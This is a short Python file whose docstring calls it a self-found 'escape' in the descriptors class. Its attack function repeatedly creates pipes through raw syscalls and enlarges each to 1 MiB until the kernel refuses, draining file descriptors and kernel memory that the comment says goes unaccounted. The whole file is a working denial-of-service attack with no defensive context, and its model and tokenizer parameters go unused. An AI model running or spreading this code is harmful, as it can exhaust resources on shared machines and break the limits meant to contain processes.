"""Class: descriptors. Source: own find. Escape: pipes hold memory of the kernel, which nobody
counts.
"""

import ctypes
import time

libc = ctypes.CDLL(None, use_errno=True)


def attack(model, tokenizer, scene):
    ends = (ctypes.c_int * 2)()
    while libc.syscall(293, ends, 0) == 0:
        libc.fcntl(ends[1], 1031, 1 << 20)
    time.sleep(0.4 if ends[0] else 0)
